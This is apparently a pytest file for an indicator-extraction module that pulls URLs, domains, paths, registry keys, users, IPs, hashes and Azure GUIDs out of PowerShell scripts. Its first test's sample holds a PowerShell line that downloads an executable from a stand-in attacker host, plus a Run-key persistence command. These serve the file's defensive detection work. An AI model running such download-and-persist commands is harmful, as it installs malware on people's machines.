"""Indicators: what is one, and the look-alikes that are not."""

from __future__ import annotations

from idpilot.script_analysis.indicators import extract_indicators


def _found(text: str) -> set[tuple[str, str]]:
    return {(i.kind.value, i.value) for i in extract_indicators(text)}


def test_urls_hosts_ips_users_paths_and_keys_are_extracted() -> None:
    text = (
        "iwr 'https://evil.example.net/a?x=1' -OutFile \"C:\\Users\\Public\\a b.exe\"\n"
        "Set-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' x y\n"
        "Connect-ExchangeOnline -UserPrincipalName admin@contoso.com\n"
        "Test-Connection 198.51.100.7; $h = 'd41d8cd98f00b204e9800998ecf8427e'"
    )
    assert _found(text) == {
        ("url", "https://evil.example.net/a?x=1"),
        ("domain", "evil.example.net"),
        ("filePath", "C:\\Users\\Public\\a b.exe"),
        ("registryKey", "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"),
        ("user", "admin@contoso.com"),
        ("ip", "198.51.100.7"),
        ("hash", "d41d8cd98f00b204e9800998ecf8427e"),
    }


def test_type_names_versions_and_file_names_are_not_indicators() -> None:
    text = (
        "(New-Object System.Net.WebClient); [System.Text.Encoding]::UTF8\n"
        "Add-Type -AssemblyName 'System.Web, Version=4.0.0.0'\n"
        "Export-Csv report.csv; $app.AppId; Import-Module .\\tool.ps1"
    )
    assert _found(text) == set()


def test_guids_are_read_by_their_context() -> None:
    text = (
        "Connect-MgGraph -TenantId 11111111-2222-4333-8444-555555555555\n"
        "$app = Get-MgApplication -Filter \"appId eq '66666666-7777-4888-9999-aaaaaaaaaaaa'\"\n"
        "client_id = 'd3590ed6-52b3-4102-aeff-aad2292ab01c'\n"
        "Get-MgGroup -GroupId bbbbbbbb-cccc-4ddd-8eee-ffffffffffff\n"
        "https://login.microsoftonline.com/12345678-1234-4234-8234-123456789abc/oauth2/token"
    )
    found = {(i.kind.value, i.value): i.note for i in extract_indicators(text)}
    assert ("tenantId", "11111111-2222-4333-8444-555555555555") in found
    assert ("appId", "66666666-7777-4888-9999-aaaaaaaaaaaa") in found
    assert found[("appId", "d3590ed6-52b3-4102-aeff-aad2292ab01c")].startswith("Microsoft Office")
    assert ("guid", "bbbbbbbb-cccc-4ddd-8eee-ffffffffffff") in found
    assert ("tenantId", "12345678-1234-4234-8234-123456789abc") in found
